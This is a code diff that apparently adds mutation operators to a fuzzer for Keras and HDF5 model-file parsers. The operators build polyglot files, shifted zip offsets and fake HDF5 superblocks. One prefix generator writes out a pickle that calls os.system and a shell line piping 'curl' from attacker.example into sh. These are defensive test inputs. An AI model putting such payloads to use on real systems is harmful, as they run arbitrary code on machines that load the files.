@@ -1140,6 +1140,66 @@ def zip_member_is_dir(data, kind, rng, ctx):
     return _rezip(data, edit)
 
 
+def _prefix_bytes(rng, ctx) -> bytes:
+    """Bytes an attacker puts before a container: a pickle (hand-written opcodes, never built by
+    pickling anything), a script, text, zeros, random bytes, or another seed's whole file."""
+    command = b"touch /tmp/never-created"
+    pickled = b"\x80\x02cposix\nsystem\nX" + struct.pack("<I", len(command)) + command + b"\x85R."
+    what = rng.randrange(8)
+    if what == 0:
+        return pickled
+    if what == 1:  # a pickle cut short, or with its opcodes scrambled
+        return pickled[: rng.randrange(1, len(pickled))] if rng.random() < 0.5 else b"\x80\x04" + rng.randbytes(64)
+    if what == 2:
+        return b"#!/bin/sh\ncurl -s https://attacker.example/x | sh\nexit 0\n"
+    if what == 3:
+        return b"Model card: trained by CI.\n" * rng.choice([1, 100, 3000])
+    if what == 4:
+        return b"\0" * rng.choice([1, 512, 4096, 70000])
+    if what == 5 and ctx is not None:
+        return ctx.seed_bytes(rng.choice(list(SEED_KINDS)))
+    if what == 6:
+        return b"\x89HDF\r\n\x1a\n" + rng.randbytes(rng.choice([8, 504, 2040]))
+    return rng.randbytes(rng.choice([1, 511, 512, 4096]))
+
+
+@op("zip", kinds=("keras",))
+def zip_prefix(data, kind, rng, ctx):
+    """A polyglot: bytes before the archive, left as `cat` leaves them (zip readers find the shift from
+    the end record) or with every offset moved by them as `zip -A` does."""
+    prefix = _prefix_bytes(rng, ctx)
+    out = bytearray(data)
+    if rng.random() < 0.5:
+        end = data.rfind(b"PK\x05\x06")
+        _need(end >= 0 and end + 22 <= len(data))
+        count, cd_size, cd_offset = struct.unpack_from("<HII", data, end + 10)
+        pos = cd_offset
+        for _ in range(count):
+            _need(data[pos:pos + 4] == b"PK\x01\x02")
+            nlen, xlen, clen = struct.unpack_from("<HHH", data, pos + 28)
+            struct.pack_into("<I", out, pos + 42, (struct.unpack_from("<I", data, pos + 42)[0] + len(prefix)) & 0xFFFFFFFF)
+            pos += 46 + nlen + xlen + clen
+        struct.pack_into("<I", out, end + 16, (cd_offset + len(prefix)) & 0xFFFFFFFF)
+    return prefix + bytes(out)
+
+
+def _h5_user_block(payload: bytes, rng) -> bytes:
+    """What h5jam does: 512 * 2**k bytes before the superblock, and its base and end-of-file addresses
+    moved by them (superblock version 0, as h5py writes); sometimes left unmoved, or with the
+    superblock put at an offset the HDF5 library does not search."""
+    _need(payload[:8] == b"\x89HDF\r\n\x1a\n" and len(payload) > 64)
+    size = rng.choice([512, 1024, 2048, 4096, 1 << 16])
+    block = _prefix_bytes(rng, None) if rng.random() < 0.5 else b"\0" * size
+    out = bytearray(payload)
+    how = rng.randrange(4)
+    if payload[8] == 0 and how < 2:
+        struct.pack_into("<Q", out, 24, size)
+        struct.pack_into("<Q", out, 40, struct.unpack_from("<Q", out, 40)[0] + size)
+    if how == 3:
+        size += rng.choice([1, 8, 256])  # not a power of two: the library never looks there
+    return block[:size].ljust(size, b"\0") + bytes(out)
+
+
 # ---- HDF5 level ------------------------------------------------------------------------------------
 
 
@@ -1447,6 +1507,7 @@ _hdf5_bytes("hdf5_global_heap", lambda payload, rng: global_heap_damage(payload,
 _hdf5_bytes("hdf5_truncate", _h5_truncate)
 _hdf5_bytes("hdf5_flip", _h5_flip)
 _hdf5_bytes("hdf5_dims", _h5_dims)
+_hdf5_bytes("hdf5_user_block", _h5_user_block)
 
 
 # ---- bytes level (any file) ------------------------------------------------------------------------
@@ -1487,6 +1548,17 @@ def bytes_chunk(data, kind, rng, ctx):
     if what == 1:
         return data[:b] + data[a:b] + data[b:]
     return data[:a] + bytes([rng.choice([0, 0xFF, 0x20])]) * (b - a) + data[b:]
+
+
+@op("bytes")
+def bytes_fake_superblock(data, kind, rng, ctx):
+    """An HDF5 signature written where the HDF5 library searches for one (512, 1024 ... bytes in),
+    followed by a superblock's worth of noise or a copy of the file's own."""
+    spots = [at for at in (512, 1024, 2048, 4096, 8192) if at + 64 <= len(data)]
+    _need(spots)
+    at = rng.choice(spots)
+    block = data[:64] if data[:8] == b"\x89HDF\r\n\x1a\n" and rng.random() < 0.5 else b"\x89HDF\r\n\x1a\n" + rng.randbytes(56)
+    return data[:at] + block + data[at + 64:]
 
 
 LEVEL_OPS = {level: sorted(n for n, o in OPS.items() if o.level == level) for level in ("json", "zip", "hdf5", "bytes")}
